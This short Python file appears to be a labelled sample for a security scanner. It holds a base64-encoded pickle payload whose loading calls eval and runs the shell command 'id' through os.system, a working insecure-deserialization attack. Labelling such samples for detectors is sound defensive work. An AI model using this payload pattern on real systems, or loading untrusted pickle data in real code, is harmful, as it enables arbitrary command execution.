# expect: stdlib; pickle.Unpickler.load over a base64 blob (GLOBAL builtins.eval with a command string)
import base64
import io
import pickle

SESSION = "Y2J1aWx0aW5zCmV2YWwKKFZfX2ltcG9ydF9fKCdvcycpLnN5c3RlbSgnaWQnKQp0Ui4="
state = pickle.Unpickler(io.BytesIO(base64.b64decode(SESSION))).load()
print(state)
